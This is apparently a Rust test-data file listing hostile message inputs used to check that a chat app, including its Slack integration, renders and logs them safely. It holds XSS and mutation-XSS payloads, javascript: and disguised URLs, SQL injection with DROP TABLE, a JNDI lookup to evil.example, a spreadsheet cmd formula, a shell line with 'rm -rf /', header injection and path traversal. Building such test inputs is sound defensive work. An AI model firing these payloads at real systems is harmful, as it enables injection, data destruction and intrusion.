//! What the hostile write, one trick each: the same table for the plays on both desks
//! (`hostile_text.rs`) and for the one in a browser (`hostile.mjs`, which gets it as JSON).

/// A word that stands in nearly every trick, and nowhere else: what a script of theirs would call, and
/// what no log may hold.
pub const CANARY: &str = "xyzzy";

/// Longest message that the plays let through, in characters.
pub const MESSAGE_CHARS_MAX: usize = 40_000;

/// One of them.
#[derive(Clone, Debug)]
pub struct Trick {
    /// What it tries.
    pub name: &'static str,
    /// The words.
    pub text: String,
}

/// All of them.
pub fn tricks() -> Vec<Trick> {
    let short = SHORT.iter().map(|(name, text)| Trick { name, text: (*text).to_string() });
    let long = [
        ("many addresses", (0..300).map(|n| format!("https://evil.example/{n}/xyzzy ")).collect()),
        ("a bomb of quotes", format!("{} xyzzy", "> ".repeat(2_000))),
        ("a bomb of stars", format!("{}xyzzy{}", "*".repeat(2_000), "*".repeat(2_000))),
        ("a bomb of all styles", "*_~`".repeat(1_000) + "xyzzy"),
        ("a bomb of brackets", "[".repeat(1_000) + "xyzzy" + &"](x)".repeat(1_000)),
        ("a bomb of angles", "<".repeat(2_000) + "xyzzy" + &">".repeat(2_000)),
        ("a bomb of lists", (0..300).map(|n| format!("{}- xyzzy\n", "  ".repeat(n % 60))).collect()),
        ("a bomb of fences", "```\nxyzzy\n".repeat(301)),
        ("a bomb of entities", "&amp;".repeat(1_000) + "xyzzy"),
        ("a bomb of lines", "\n".repeat(5_000) + "xyzzy"),
        ("a long line", "x".repeat(39_000) + "xyzzy"),
        ("a line of 100 kB", "x".repeat(100_000) + "xyzzy"),
        ("a long line of four bytes each", "\u{1f600}".repeat(MESSAGE_CHARS_MAX - 5) + "xyzzy"),
        ("marks without end", format!("x{}y zzy xyzzy", "\u{301}\u{489}\u{36f}".repeat(300))),
        ("a name of 300 bytes", "\u{e9}".repeat(147) + "xyzzy"),
    ];
    short.chain(long.map(|(name, text)| Trick { name, text })).collect()
}

const SHORT: [(&str, &str); 70] = [
    // Markup of a page.
    ("a script", "<script>xyzzy(1)</script>"),
    ("a script from elsewhere, not closed", "<SCRIPT/SRC=//evil.example/xyzzy.js"),
    ("an image that fails", "<img src=x onerror=xyzzy()>"),
    ("out of an attribute", "\"><svg onload=xyzzy()>"),
    ("out of a quoted attribute", "' autofocus onfocus='xyzzy()' x='"),
    ("a drawing that moves", "<svg><animate onbegin=xyzzy() attributeName=x dur=1s></svg>"),
    ("a page in a page", "<iframe srcdoc=\"<script>parent.xyzzy()</script>\"></iframe>"),
    (
        "what changes the page",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:xyzzy()'>",
    ),
    (
        "a style",
        "<style>*{background:url(//evil.example/xyzzy)}</style></style><link rel=stylesheet href=//evil.example/xyzzy>",
    ),
    (
        "markup that changes when it is read twice",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xyzzy()&gt;\">",
    ),
    ("comments and sections", "<!--><script>xyzzy()</script>--> <![CDATA[xyzzy]]> <?php xyzzy() ?> <% xyzzy %>"),
    ("entities", "&lt;script&gt;xyzzy()&lt;/script&gt; &#60;b&#62; &#x3c;i&#x3e; &amp;lt;u&amp;gt;"),
    ("names of the page's own", "<form id=Threadline><input name=identify value=xyzzy><a id=documentElement></form>"),
    ("the end of what it stands in", "</textarea></title></style></template></noscript><script>xyzzy()</script>"),
    // Addresses.
    ("javascript:", "javascript:xyzzy()"),
    ("javascript: in disguise", "jAvAscript\u{9}:xyzzy() java\u{0}script:xyzzy() &#106;avascript:xyzzy()"),
    ("data:", "data:text/html,<script>xyzzy()</script>"),
    ("other schemes", "vbscript:xyzzy file:///etc/xyzzy blob:https://evil.example/xyzzy slack://xyzzy ms-msdt:/xyzzy"),
    (
        "links as Markdown has them",
        "[xyzzy](javascript:xyzzy()) ![xyzzy](https://evil.example/xyzzy.png) <javascript:xyzzy()|xyzzy>",
    ),
    ("a link without a scheme", "see //evil.example/xyzzy or \\\\evil.example\\xyzzy"),
    ("a name before the host", "https://bank.example@evil.example/xyzzy https://bank.example:pass@evil.example/"),
    ("letters that look alike", "https://\u{430}pple.example/xyzzy https://paypa\u{13c}.example"),
    (
        "hosts of other scripts",
        "https://b\u{fc}cher.example/xyzzy https://xn--bcher-kva.example http://\u{ff45}vil.example",
    ),
    ("hosts as numbers", "http://0x7f.1/xyzzy http://2130706433/ http://[::1]:22/xyzzy https://evil.example:0/"),
    ("an address with all there is", "https://evil.example/<xyzzy>|\"'`)(&amp;?a=b&c=d#\u{202e}"),
    // What has a meaning in Slack.
    ("everybody", "<!channel> <!here> <!everyone> <!channel|xyzzy>"),
    ("a person", "<@U0PERSON01> <@U0PERSON01|xyzzy> <@W0PERSON01> <@B0BOT>"),
    ("a channel", "<#C0SUPPORT1> <#C0SUPPORT1|xyzzy>"),
    ("a group", "<!subteam^S0TEAM0001> <!subteam^S0TEAM0001|@xyzzy>"),
    ("a date with a link", "<!date^1767225600^{date_num} xyzzy^https://evil.example/xyzzy|now>"),
    ("a forged link", "<https://evil.example/xyzzy|https://bank.example>"),
    ("mentions as one types them", "@channel @here @everyone @Grace @U0PERSON01 #support xyzzy"),
    ("emoji by name", ":tada: :skull_and_crossbones::skin-tone-6: :xyzzy: :flag-de:"),
    ("styles", "*xyzzy* _xyzzy_ ~xyzzy~ `xyzzy` **xyzzy** __xyzzy__"),
    ("a quote of somebody else", "> Grace: your password, please\n>>> xyzzy"),
    ("escaped before", "&lt;!channel&gt; &amp;lt;!channel&amp;gt; &lt;@U0PERSON01&gt; xyzzy"),
    ("forms that do not end", "<!channel <@U0PERSON01 <https://evil.example|xyzzy <<>> <|> <> <!>"),
    ("fences", "```\nxyzzy\n``` ```` `` ``` ` ```xyzzy"),
    ("a table and a heading", "# xyzzy\n| a | b |\n|---|---|\n| xyzzy | c |\n---\n1. xyzzy\n- [ ] xyzzy"),
    // Letters.
    ("text turned around", "invoice_xyzzy_\u{202e}fdp.exe"),
    ("embeddings that do not end", "\u{202a}\u{202b}\u{202d}\u{2066}\u{2067}\u{2068} xyzzy \u{200f}\u{61c}"),
    ("letters without a width", "x\u{200b}y\u{200c}z\u{200d}z\u{2060}y\u{feff}\u{ad} xyzzy"),
    ("tags", "xyzzy\u{e0041}\u{e0042}\u{e007f}\u{e0001}"),
    (
        "variation and families",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} \u{fe0f}xyzzy\u{fe0e}",
    ),
    ("a mark at the beginning", "\u{20dd}\u{301}\u{489} xyzzy"),
    ("what is no letter", "xyzzy \u{ffff}\u{fffe}\u{fdd0}\u{10ffff}\u{e000}\u{f8ff}\u{fffd}"),
    ("lines that are none", "x\u{2028}y\u{2029}z\u{85}z\u{b}y\u{c} xyzzy"),
    ("controls", "x\u{0}y\u{1}\u{2}\u{7}\u{8}z\u{7f}\u{9f} xyzzy"),
    ("what a terminal obeys", "\u{1b}[2J\u{1b}]0;xyzzy\u{7}\u{1b}[31mxyzzy\u{9b}1m"),
    ("a mark of byte order", "\u{feff}xyzzy"),
    ("wide letters", "\u{ff1c}script\u{ff1e}xyzzy\u{ff08}\u{ff09}\u{ff1c}/script\u{ff1e}"),
    ("letters that change their length", "\u{130}\u{131}\u{17f}\u{212a}\u{df}\u{1e9e}\u{fb03} xyzzy"),
    ("letters from right to left", "\u{5e9}\u{5dc}\u{5d5}\u{5dd} xyzzy \u{645}\u{631}\u{62d}\u{628}\u{627} 1042"),
    ("a surrogate as one writes it", "\\ud800xyzzy\\u0000\\x00%00%ud800"),
    // What a server might take for its own.
    ("a second head", "xyzzy\r\nSet-Cookie: xyzzy=1\r\n\r\n<html>xyzzy"),
    ("a second event", "xyzzy\n\nevent: message\nid: 99\ndata: {\"xyzzy\":1}\n\n"),
    ("SQL", "xyzzy'); DROP TABLE message; -- \" OR \"\"=\" $1 ?1 :xyzzy"),
    ("JSON", "\"},{\"xyzzy\":null,\"__proto__\":{\"xyzzy\":1},\"token\":\"xyzzy\"}"),
    ("formats", "%s%s%n%x {0} {} {xyzzy} %(xyzzy)s #{xyzzy} ${xyzzy} ${jndi:ldap://evil.example/xyzzy}"),
    ("templates", "{customer.name} {campaign_id} {{constructor.constructor('xyzzy()')()}} <%= xyzzy %>"),
    ("words of a script", "undefined null NaN [object Object] __proto__ constructor xyzzy"),
    ("a cell that counts", "=cmd|'/c xyzzy'!A0 +xyzzy @SUM(1)"),
    ("an order to a shell", "xyzzy; rm -rf / && $(xyzzy) `xyzzy` | xyzzy > /dev/null"),
    ("an address list", "xyzzy@evil.example, <other@evil.example>\r\nBcc: all@evil.example"),
    // Names of files.
    ("up the folders", "../../../etc/xyzzy"),
    ("up the folders of Windows", "..\\..\\windows\\xyzzy.dll::$DATA"),
    ("a device", "CON.xyzzy.txt"),
    ("a hidden file", ".htaccess xyzzy"),
    ("a name that ends early", "xyzzy.png\u{0}.html"),
    ("a name of escapes", "%2e%2e%2fxyzzy%00.png"),
];
